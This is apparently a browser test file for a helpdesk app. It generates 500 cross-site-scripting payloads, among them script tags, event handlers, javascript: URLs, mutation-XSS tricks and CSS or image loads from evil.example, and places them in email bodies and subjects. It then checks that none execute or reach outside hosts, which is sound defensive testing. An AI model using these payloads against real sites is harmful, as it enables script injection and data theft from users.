"""Five hundred hostile bodies and subjects in real Chromium: no script runs, nothing outside is asked for."""

import itertools
from collections.abc import Callable

import pytest
from playwright.sync_api import Page, Route

from helpdesk.accounts.models import User
from tests.conftest import Post
from tickets.actions import raw
from tickets.models import Message

pytestmark = pytest.mark.browser
COUNT, TOGETHER = 500, 50
CALL = "top.pwned=1;window.pwned=1;document.title='pwned'"
EVIL = "http://evil.example"
SHAPES = [
    "<script>{c}</script>",
    "<ScRiPt/x>{c}</sCrIpT >",
    "<script src={e}/x.js></script>",
    "<img src=x onerror={c}>",
    "<img src='x' onerror='{c}'>",
    "<img/src/onerror={c}>",
    "<svg onload={c}>",
    "<svg><script>{c}</script></svg>",
    "<svg><animate onbegin={c} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{c}'><text y=20>x</text></a>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror={c}&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror={c}>'>",
    "<iframe srcdoc='<script>{c}</script>'></iframe>",
    "<iframe src='javascript:{c}'></iframe>",
    "<object data='data:text/html,<script>{c}</script>'></object>",
    "<embed src='{e}/x.swf'>",
    "<a href='javascript:{c}'>control</a>",
    "<a href=' java&#9;script:{c}'>x</a>",
    "<a href='data:text/html,<script>{c}</script>'>x</a>",
    "<form action='javascript:{c}'><button>x</button></form>",
    "<button formaction='javascript:{c}'>x</button>",
    "<input autofocus onfocus={c}>",
    "<details open ontoggle={c}>x</details>",
    "<body onload={c}>",
    "<marquee onstart={c}>x</marquee>",
    "<video><source onerror={c}></video>",
    "<audio src=x onerror={c}>",
    "<style>@import '{e}/x.css';</style>",
    "<style>*{{background:url({e}/x)}}</style>",
    "<p style='background:url({e}/x.png)'>x</p>",
    "<p style='width:expression({c})'>x</p>",
    "<link rel=stylesheet href={e}/x.css>",
    "<link rel=prefetch href={e}/x>",
    "<meta http-equiv=refresh content='0;url={e}'>",
    "<base href='{e}/'><img src=x.png>",
    "<img src='{e}/pixel.gif'>",
    "<img srcset='{e}/a 1x'>",
    "<picture><source srcset='{e}/a'><img></picture>",
    "<table background='{e}/x.png'><tr><td>x</table>",
    "<input type=image src='{e}/x'>",
    "<video poster='{e}/x'></video>",
    "<template><script>{c}</script></template>",
    "<textarea></textarea><script>{c}</script>",
    "<!--><script>{c}</script>-->",
    "<![CDATA[<script>{c}</script>]]>",
    "<xmp><script>{c}</script></xmp>",
    "<select><option><script>{c}</script></select>",
    "<div contenteditable onfocus={c} autofocus>x</div>",
    "<x onclick={c} tabindex=1 autofocus onfocus={c}>x</x>",
    "<svg><foreignObject><iframe srcdoc='<script>{c}</script>'></foreignObject></svg>",
    "<portal src={e}>",
    "<frameset onload={c}>",
]
WRAPS = [
    "{x}", "<div>{x}</div>", "<table><tr><td>{x}</table>", "</div></body></html>{x}", "<b><i>{x}", "<!-- -->{x}<!--",
    "<p title=\"{x}\">{x}</p>", "\x0c{x}", "<svg>{x}</svg>", "<math>{x}</math>",
]  # fmt: skip


def payloads() -> list[str]:
    """The first five hundred of all shapes in all wraps, each with its control."""
    made = (wrap.format(x=shape.format(c=CALL, e=EVIL)) for wrap, shape in itertools.product(WRAPS, SHAPES))
    return [f"<p>control {n}</p>{each}" for n, each in enumerate(itertools.islice(made, COUNT))]


def test_there_are_five_hundred_different_ones() -> None:
    assert len(set(payloads())) == COUNT


def _hostile(post: Post, html: str) -> Message:
    """A message with this HTML as body; its markup is the subject and the sender's name as well."""
    plain = html.replace("\x0c", " ").replace("\n", " ")[:150]
    data = post.make("BODY", subject=plain, sender="evil@example.com")
    data = data.replace(b"text/plain", b"text/html").replace(b"BODY", html.encode())
    row = raw.take_in(post.inbox, data)
    assert row is not None
    message = raw.process(row.pk)
    assert message is not None
    return message


def test_no_script_runs_and_nothing_outside_is_asked_for(
    post: Post, agent: User, sit_down: Callable[..., Page], address: str
) -> None:
    messages = [_hostile(post, html) for html in payloads()]
    page = sit_down(agent)
    outside: list[str] = []

    def watch(route: Route) -> None:
        if route.request.url.startswith((address, "data:", "about:")):
            route.continue_()
        else:
            outside.append(route.request.url)
            route.abort()

    page.context.route("**/*", watch)
    page.context.on("dialog", lambda dialog: outside.append(f"dialog {dialog.message}"))
    for start in range(0, COUNT, TOGETHER):
        _look_at(page, messages[start : start + TOGETHER], start)
    _look_at_pages(page, messages)
    assert outside == []


def _look_at(page: Page, messages: list[Message], start: int) -> None:
    """Many bodies at once, each in a frame like the ticket page's; every one shows its control."""
    page.goto("/desk/q/all/")
    page.evaluate(
        """(keys) => { for (const key of keys) { const frame = document.createElement("iframe");
          frame.setAttribute("sandbox", "allow-popups"); frame.src = `/desk/m/${key}/html/`;
          document.body.append(frame); } }""",
        [message.pk for message in messages],
    )
    page.wait_for_load_state("networkidle")
    shown = [frame.inner_text("body") for frame in page.frames[1:] if "/html/" in frame.url]
    assert len(shown) == len(messages)
    for number, text in enumerate(sorted(shown, key=lambda text: int(text.split()[1]))):
        assert f"control {start + number}" in text
    assert page.evaluate("window.pwned") is None
    assert page.title() != "pwned"


def _look_at_pages(page: Page, messages: list[Message]) -> None:
    """Subjects and bodies where the desk shows them: list, ticket, customer, search."""
    numbers = [message.ticket.number for message in messages[:: COUNT // 20]]
    customer = messages[0].ticket.customer_id
    for path in (
        *("/desk/q/all/", f"/desk/c/{customer}/", "/desk/search/?q=control&type=ticket"),
        *(f"/desk/t/{number}/" for number in numbers),
    ):
        page.goto(path)
        assert page.evaluate("window.pwned") is None, path
        assert page.title() != "pwned"
        assert "control" in page.inner_text("main"), path
